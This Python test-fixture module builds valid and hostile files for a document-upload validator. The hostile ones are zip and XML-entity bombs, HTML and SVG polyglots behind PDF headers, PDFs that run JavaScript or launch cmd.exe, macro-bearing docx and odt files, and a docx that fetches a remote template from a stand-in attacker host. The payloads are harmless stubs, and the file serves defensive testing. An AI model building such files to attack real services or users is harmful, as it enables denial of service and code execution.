"""Documents for the share form's tests, made by the tests: real ones and hostile ones."""

import io
import zipfile
from functools import cache

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

GIB = 1 << 30

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>{extra}</Types>'
)
ROOT_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
WORD_BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Informe de seguimiento</w:t></w:r></w:p></w:body></w:document>"
)
MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="{media_type}"/><manifest:file-entry '
    'manifest:full-path="content.xml" manifest:media-type="text/xml"/>{extra}'
    "</manifest:manifest>"
)
ODT_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    "<office:body><office:text><text:p>Informe de seguimiento</text:p></office:text>"
    "</office:body></office:document-content>"
)
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def package(parts, *, stored_first=False):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(parts.items()):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return buffer.getvalue()


def docx(extra_types="", **parts):
    return package(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(extra=extra_types),
            "_rels/.rels": ROOT_RELS,
            "word/document.xml": WORD_BODY,
            **parts,
        }
    )


def odt(media_type=ODT_TYPE, extra_manifest="", **parts):
    return package(
        {
            "mimetype": media_type,
            "META-INF/manifest.xml": MANIFEST.format(media_type=media_type, extra=extra_manifest),
            "content.xml": ODT_CONTENT,
            **parts,
        },
        stored_first=True,
    )


def pdf(build=None):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_action(kind, **entries):
    def build(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer._root_object[NameObject("/OpenAction")] = action

    return build


@cache
def bomb(name, **other_parts):
    """An archive holding ``name`` that inflates to 1 GiB (about 1 MB on disk)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in other_parts.items():
            archive.writestr(part.replace("__", "/"), data)
        with archive.open(name, "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(GIB // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def handmade_pdf(*objects):
    """A PDF written by hand, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj %s endobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


HANDMADE_PDF_WITH_ESCAPED_SCRIPT = handmade_pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    # "/J#61vaScript" is "/JavaScript" with an escaped letter, as exploit kits write it.
    b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
)


def valid_documents():
    """(file name, content, extension the hub must store) for each accepted kind."""
    return [
        ("informe final.PDF", pdf(), "pdf"),
        ("informe.docx", docx(), "docx"),
        ("informe.odt", odt(), "odt"),
        # The content decides, not the name.
        ("informe.txt", pdf(), "pdf"),
    ]


def hostile_documents():
    """(description, file name, content, error code) that the hub must refuse."""
    return [
        ("odt whose mimetype inflates to 1 GiB", "bomb.odt", bomb("mimetype"), "complex"),
        (
            "docx whose document.xml inflates to 1 GiB",
            "bomb.docx",
            bomb(
                "word/document.xml",
                **{"[Content_Types].xml": CONTENT_TYPES.format(extra=""), "_rels__.rels": ""},
            ),
            "complex",
        ),
        (
            "HTML behind a PDF header",
            "report.html",
            b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>",
            "type",
        ),
        (
            "SVG behind a PDF header",
            "poly.svg",
            b'%PDF-1.4\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "type",
        ),
        (
            "PDF that runs JavaScript when opened",
            "informe.pdf",
            pdf(open_action("/JavaScript", JS="app.alert(1)")),
            "active",
        ),
        (
            "PDF with a document-level script",
            "informe.pdf",
            pdf(document_script),
            "active",
        ),
        (
            "PDF that launches a program",
            "informe.pdf",
            pdf(open_action("/Launch", F="cmd.exe")),
            "active",
        ),
        (
            "PDF with an embedded file",
            "informe.pdf",
            pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ" + bytes(100))),
            "active",
        ),
        (
            "PDF with an escaped script name",
            "informe.pdf",
            HANDMADE_PDF_WITH_ESCAPED_SCRIPT,
            "active",
        ),
        ("PDF with a password", "informe.pdf", encrypted_pdf(), "encrypted"),
        (
            "docx with macros",
            "informe.docx",
            docx(
                extra_types='<Override PartName="/word/vbaProject.bin" ContentType='
                '"application/vnd.ms-office.vbaProject"/>',
                **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
            ),
            "active",
        ),
        (
            "docx that fetches a remote template",
            "informe.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": (
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                        "openxmlformats.org/officeDocument/2006/relationships/"
                        'attachedTemplate" Target="http://attacker.invalid/t.dotm" '
                        'TargetMode="External"/></Relationships>'
                    )
                }
            ),
            "active",
        ),
        (
            "odt with a Basic macro",
            "informe.odt",
            odt(**{"Basic/Standard/Module1.xml": "<script/>"}),
            "active",
        ),
        (
            "XML bomb in a docx",
            "informe.docx",
            docx(
                **{
                    "word/document.xml": '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol '
                    '"lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
                    "<lolz>&lol2;</lolz>"
                }
            ),
            "type",
        ),
        (
            "spreadsheet called .odt",
            "informe.odt",
            odt("application/vnd.oasis.opendocument.spreadsheet"),
            "type",
        ),
        ("PNG called .pdf", "informe.pdf", b"\x89PNG\r\n\x1a\n" + bytes(200), "type"),
        (
            "Word package without its document",
            "informe.docx",
            package({"[Content_Types].xml": CONTENT_TYPES.format(extra="")}),
            "type",
        ),
        (
            "archive of 5,000 entries",
            "informe.docx",
            package({f"word/media/{n}.xml": "" for n in range(5000)}),
            "complex",
        ),
        ("empty file", "informe.pdf", b"", "empty"),
    ]


def document_script(writer):
    """A script in the catalogue's /Names /JavaScript tree, run when the PDF opens."""
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    scripts = ArrayObject([TextStringObject("init"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
    )


def encrypted_pdf():
    def build(writer):
        writer.encrypt(user_password="secreto", owner_password="secreto")

    return pdf(build)
